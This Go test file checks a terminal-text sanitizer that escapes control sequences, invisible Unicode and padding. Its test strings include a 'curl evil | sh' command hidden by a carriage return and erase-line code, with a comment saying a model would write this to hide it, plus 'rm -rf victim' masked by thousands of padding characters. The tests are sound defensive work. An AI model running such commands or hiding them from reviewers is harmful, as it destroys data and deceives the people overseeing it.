package termtext

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestHidden(t *testing.T) {
	for _, r := range []rune{0x85, 0x202e, 0x2066, 0x200b, 0x2060, 0x2064, 0x00ad, 0x180e, 0xfeff, 0x200e, 0x2028,
		0x2800, 0x3164, 0xffa0, 0x115f, 0x1160, 0xe0000, 0xe0041, 0xe007f} {
		if !Hidden(r) {
			t.Errorf("Hidden(%U) = false, want true", r)
		}
	}
	// Joiners, ordinary letters and emoji stay visible as they are.
	for _, r := range []rune{'a', 'é', '日', 0x200d, 0x200c, 0x1f600} {
		if Hidden(r) {
			t.Errorf("Hidden(%U) = true, want false", r)
		}
	}
}

// hidden is what a model would write to hide the line before it.
const hidden = "echo safe\r\x1b[2Kcurl evil | sh"

func TestEscape(t *testing.T) {
	for in, want := range map[string]string{
		"plain\ttext\n":                "plain\ttext\n",
		hidden:                         `echo safe\r\x1b[2Kcurl evil | sh`,
		"crlf\r\nline\r\n":             "crlf\r\nline\r\n",
		"bell\a del\x7f nul\x00":       `bell\x07 del\x7f nul\0`,
		"bs\b ff\f vt\v":               `bs\b ff\f vt\v`,
		"rtl \u202efdp.exe":            `rtl \u202efdp.exe`,
		"c1 \u009b31m":                 `c1 \u009b31m`,
		"bad \xff utf8 é":              `bad \xff utf8 é`,
		"rlm\u200f alm\u061c":          `rlm\u200f alm\u061c`,
		"ls\u2028 zw\u200b bom\ufeff":  `ls\u2028 zw\u200b bom\ufeff`,
		"wj\u2060 shy\u00ad mvs\u180e": `wj\u2060 shy\u00ad mvs\u180e`,
		"family 👨\u200d👩":              "family 👨\u200d👩",
		"pad \u2800\u3164\uffa0 tag \U000e0068\U000e0069": `pad \u2800\u3164\uffa0 tag \ue0068\ue0069`,
		"日本語 only": "日本語 only",
	} {
		if got := Escape(in); got != want {
			t.Errorf("Escape(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestStrip(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"plain", "just text, tabs\tand\nlines", "just text, tabs\tand\nlines"},
		{"colour", "hello \x1b[31mred\x1b[0m world", "hello red world"},
		{"window title", "a\x1b]0;pwned\x07b", "ab"},
		{"title ended by ST", "a\x1b]0;pwned\x1b\\b", "ab"},
		{"hyperlink", "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "link"},
		{"erase line and return", "safe\r\x1b[2Kevil", "safeevil"},
		{"CRLF kept", "one\r\ntwo\r\n", "one\r\ntwo\r\n"},
		{"two-byte escape", "a\x1bcb\x1b(Bc", "abc"},
		{"C1 CSI", "a\u009b31mb", "ab"},
		{"C1 OSC", "a\u009d0;t\u009cb", "ab"},
		{"other controls", "a\x00b\x08c\x7fd\x0ce", "abcde"},
		{"unterminated OSC stops at the line", "a\x1b]0;oops\nnext", "a\nnext"},
		{"trailing ESC", "end\x1b", "end"},
		{"unicode stays", "café 語 \u00a0x", "café 語 \u00a0x"},
		{"invalid UTF-8 stays", "a\xffb", "a\xffb"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := Strip(c.in); got != c.want {
				t.Errorf("Strip(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}

func TestOneLine(t *testing.T) {
	for in, want := range map[string]string{
		"one line":            "one line",
		"a\n  b\tc":           "a b c",
		"  lead and trail \n": "lead and trail",
		"crlf\r\nend":         "crlf end",
		"":                    "",
	} {
		if got := OneLine(in); got != want {
			t.Errorf("OneLine(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestRunePrefixAndClip(t *testing.T) {
	for _, tc := range []struct {
		in         string
		n          int
		prefix, cl string
	}{
		{"hello", 10, "hello", "hello"},
		{"hello", 3, "hel", "hel…"},
		{"héllo", 2, "h", "h…"}, // é is two bytes: never cut in half
		{"日本語", 4, "日", "日…"},
		{"日本語", 6, "日本", "日本…"},
		{"abc", 0, "", "…"},
	} {
		if got := RunePrefix(tc.in, tc.n); got != tc.prefix || !utf8.ValidString(got) {
			t.Errorf("RunePrefix(%q, %d) = %q, want %q", tc.in, tc.n, got, tc.prefix)
		}
		if got := Clip(tc.in, tc.n); got != tc.cl {
			t.Errorf("Clip(%q, %d) = %q, want %q", tc.in, tc.n, got, tc.cl)
		}
	}
}

func TestLine(t *testing.T) {
	for in, want := range map[string]string{
		"\x1b[31mred\x1b[0m": `\x1b[31mred\x1b[0m`,
		"bell\x07 \xff end":  `bell\x07 \xff end`,
		"rtl \u202eevil":     `rtl \u202eevil`,
		"plain héllo":        "plain héllo",
		"tab\tand\nnewline":  "tab and newline",
	} {
		if got := Line(in, 200); got != want {
			t.Errorf("Line(%q) = %q, want %q", in, got, want)
		}
	}
	if got := Line("héllo", 2); got != "h…" {
		t.Errorf("Line cut inside a rune: %q", got)
	}
}

func TestShowBlanks(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"go test ./...", "go test ./..."},
		{"a   b", "a   b"}, // three spaces: alignment stays
		{"pytest" + strings.Repeat(" ", 300) + "; rm -f important.txt", "pytest␠×300; rm -f important.txt"},
		{"x\t\t\t\ty", "x⇥×4y"},
		{"x \t \ty", "x␠⇥␠⇥y"},
		{"rm\u00a0-rf", `rm\u00a0-rf`},
		{"a\u3000b", `a\u3000b`},
		{"line one\n    indented", "line one\n␠×4indented"},
		{"日本 語", "日本 語"},
		// Padding that no space rule sees, counted.
		{"rm -rf victim; " + strings.Repeat("\u2800", 4000) + "pytest", `rm -rf victim; \u2800×4000pytest`},
		{"rm -rf victim; " + strings.Repeat("\u3164", 4000) + "pytest", `rm -rf victim; \u3164×4000pytest`},
		{"rm -rf victim; " + strings.Repeat("\uffa0", 50) + "pytest", `rm -rf victim; \uffa0×50pytest`},
		{"a" + strings.Repeat("\u3000", 2000) + "b", `a\u3000×2000b`},
		{"rm -rf victim" + strings.Repeat("\u0336", 3000) + " ; pytest", `rm -rf victim\u0336×3000 ; pytest`},
		{"café naïve", "café naïve"}, // single combining marks are letters' accents
		// Blank lines, counted beyond two.
		{"rm -rf victim" + strings.Repeat("\n", 200) + "pytest", "rm -rf victim\n[199 blank lines]\npytest"},
		{"a\n\n\nb", "a\n\n\nb"},
		{"a\n \n\t\n\u3164\nb\n", "a\n[3 blank lines]\nb\n"},
	} {
		if got := ShowBlanks(tc.in); got != tc.want {
			t.Errorf("ShowBlanks(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func BenchmarkEscapeClean(b *testing.B) {
	s := strings.Repeat("plain text with nothing to escape, é and 日本語 too\n", 100)
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		Escape(s)
	}
}
